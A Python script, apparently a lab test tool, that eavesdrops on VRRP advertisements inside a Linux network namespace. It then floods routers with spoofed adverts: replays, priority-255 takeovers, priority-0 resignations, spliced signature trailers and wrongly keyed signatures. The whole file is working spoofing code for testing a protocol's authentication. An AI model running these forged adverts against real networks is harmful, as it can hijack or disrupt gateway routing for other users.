"""An attacker in the fabric: receives every advert that crosses a router, and sends adverts in any node's name.

It listens in the network namespace EARS (a router that is tapped) and sends from its own, with raw packets whose source
it writes as it likes. From SIGUSR1 on it sends, for SECONDS, RATE adverts a second to each of the NODES, one kind
after the other, each in the name of another node:

    replay   what that node has sent to this one, as it was, the latest and older ones; if it has sent nothing, what
             another node has sent, to the node that it was for
    owner    priority 255, without a trailer          leave     priority 0, without a trailer
    better   the latest one with a higher priority, without a trailer
    splice   priority 255 behind the trailer of a recorded advert
    resign   priority 0 behind the trailer of a recorded advert
    wrong    priority 255, signed now, with a key that is not theirs

Where adverts are not signed, what is recorded has no trailer, and all of these are what they would be without one. It
writes `listening` when it does, `heard NUMBER` for the adverts recorded before it began, and at the end
`sent NUMBER, NUMBER a second`.

    python attacker.py EARS RATE SECONDS VRID VIRTUAL-ADDRESS NODE NODE…
"""

from __future__ import annotations

import ctypes
import hmac
import os
import selectors
import signal
import socket
import struct
import sys
import time
from collections import defaultdict, deque
from collections.abc import Sequence
from ipaddress import IPv4Address, IPv6Address, ip_address

VRRP = 112
OURS = "attacker"
"The router's interface to us."
CLONE_NEWNET = 0x40000000
KEPT = 64
"Recorded adverts of each pair of nodes that are replayed."
WRONG_KEY = b"not the key that they have agreed"
Address = IPv4Address | IPv6Address


def setns(descriptor: int) -> None:
    """Python 3.11 has no os.setns."""
    if ctypes.CDLL(None, use_errno=True).setns(descriptor, CLONE_NEWNET):
        raise OSError(ctypes.get_errno(), "setns")


def ears(namespace: str) -> socket.socket:
    """A packet socket in another network namespace; this process comes back to its own."""
    home, there = (os.open(each, os.O_RDONLY) for each in ("/proc/self/ns/net", namespace))
    setns(there)
    try:
        return socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM | socket.SOCK_NONBLOCK, socket.htons(3))
    finally:
        setns(home)
        os.close(home)
        os.close(there)


def summed(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    return 0xFFFF - int.from_bytes(data) % 0xFFFF


def packet(source: Address, destination: Address, message: bytes, trailer: bytes) -> bytes:
    """A whole IP packet with right checksums, hop limit 255."""
    ends = source.packed + destination.packed
    covered = message + trailer if source.version == 6 else message
    pseudo = struct.pack("!BBH" if source.version == 4 else "!IHBB", *_lengths(source.version, len(covered)))
    checksum = summed(ends + pseudo + covered[:6] + b"\0\0" + covered[8:])
    payload = message[:6] + checksum.to_bytes(2) + message[8:] + trailer
    if source.version == 6:
        return struct.pack("!IHBB", 6 << 28, len(payload), VRRP, 255) + ends + payload
    header = struct.pack("!BBHHHBBH", 0x45, 0xC0, 20 + len(payload), 0, 0, 255, VRRP, 0) + ends
    return header + payload  # the kernel fills in the header's checksum (raw(7))


def _lengths(version: int, length: int) -> tuple[int, ...]:
    return (0, VRRP, length) if version == 4 else (length, 0, 0, VRRP)


def signed_wrongly(source: Address, message: bytes) -> bytes:
    now = time.time()
    front = struct.pack("!BBHIHH", 1, 1, 0, int(now), int(now % 1 * 65536), 0)
    pseudo = bytes((source.version, 3, message[1], 0)) + source.packed.ljust(16, b"\0")
    covered = pseudo + message[:6] + b"\0\0" + message[8:] + front + bytes(16)
    return front + hmac.digest(WRONG_KEY, covered, "sha256")[:16]


class Attacker:
    def __init__(self, vrid: int, virtual: Address, nodes: Sequence[Address]) -> None:
        self.nodes = nodes
        self.heard = 0
        self._virtual, self._vrid = virtual, vrid
        self._recorded: dict[tuple[Address, Address], deque[bytes]] = defaultdict(lambda: deque(maxlen=KEPT))
        self._kinds = (self._replay, self._owner, self._leave, self._better, self._splice, self._resign, self._wrong)
        self._head = 20 if virtual.version == 4 else 40
        family = socket.AF_INET if virtual.version == 4 else socket.AF_INET6
        self._mouth = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW)

    def hear(self, listener: socket.socket) -> None:
        """Reads everything that waits."""
        ends = slice(12, 20) if self._virtual.version == 4 else slice(8, 40)
        protocol = 9 if self._virtual.version == 4 else 6
        while True:
            try:
                data, (interface, _, kind, *_) = listener.recvfrom(4096)
            except BlockingIOError:
                return
            if kind != 0 or interface == OURS or data[0] >> 4 != self._virtual.version or data[protocol] != VRRP:
                continue
            both = data[ends]
            source, destination = ip_address(both[: len(both) // 2]), ip_address(both[len(both) // 2 :])
            self._recorded[source, destination].append(data)
            self.heard += 1

    def fire(self, node: Address, number: int) -> None:
        """Sends the next one to a node."""
        turn, kind = divmod(number, len(self._kinds))
        others = [each for each in self.nodes if each != node]
        self._mouth.sendto(self._kinds[kind](others[turn % len(others)], node, turn), (str(node), 0))

    def _replay(self, name: Address, node: Address, turn: int) -> bytes:
        """As recorded, with the destination that it had."""
        known = self._recorded.get((name, node)) or next(iter(self._recorded.values()))
        return known[-1 - turn % len(known)]

    def _owner(self, name: Address, node: Address, _: int) -> bytes:
        return packet(name, node, self._message(255), b"")

    def _leave(self, name: Address, node: Address, _: int) -> bytes:
        return packet(name, node, self._message(0), b"")

    def _better(self, name: Address, node: Address, turn: int) -> bytes:
        priority = self._replay(name, node, turn)[self._head + 2]
        return packet(name, node, self._message(min(priority + 1, 254)), b"")

    def _splice(self, name: Address, node: Address, turn: int) -> bytes:
        return packet(name, node, self._message(255), self._trailer(name, node, turn))

    def _resign(self, name: Address, node: Address, turn: int) -> bytes:
        return packet(name, node, self._message(0), self._trailer(name, node, turn))

    def _wrong(self, name: Address, node: Address, _: int) -> bytes:
        return packet(name, node, self._message(255), signed_wrongly(name, self._message(255)))

    def _trailer(self, name: Address, node: Address, turn: int) -> bytes:
        return self._replay(name, node, turn)[self._head + 8 + len(self._virtual.packed) :]

    def _message(self, priority: int) -> bytes:
        return struct.pack("!BBBBHH", 0x31, self._vrid, priority, 1, 10, 0) + self._virtual.packed


def main(namespace: str, rate: int, seconds: float, vrid: int, ends: Sequence[Address]) -> None:
    begun = False

    def begin(_number: int, _frame: object) -> None:
        nonlocal begun
        begun = True

    signal.signal(signal.SIGUSR1, begin)
    virtual, *nodes = ends
    attacker = Attacker(vrid, virtual, nodes)
    with ears(namespace) as listener, selectors.DefaultSelector() as selector:
        selector.register(listener, selectors.EVENT_READ)
        print("listening", flush=True)
        while not begun:
            selector.select(0.01)
            attacker.hear(listener)
        print("heard", attacker.heard, flush=True)
        start, total = time.monotonic(), round(rate * seconds)
        for number in range(total):
            time.sleep(max(0.0, start + number / rate - time.monotonic()))
            attacker.hear(listener)
            for node in nodes:
                attacker.fire(node, number)
    sent = total * len(nodes)
    print(f"sent {sent}, {sent / (time.monotonic() - start):.0f} a second", flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), [*map(ip_address, sys.argv[5:])])
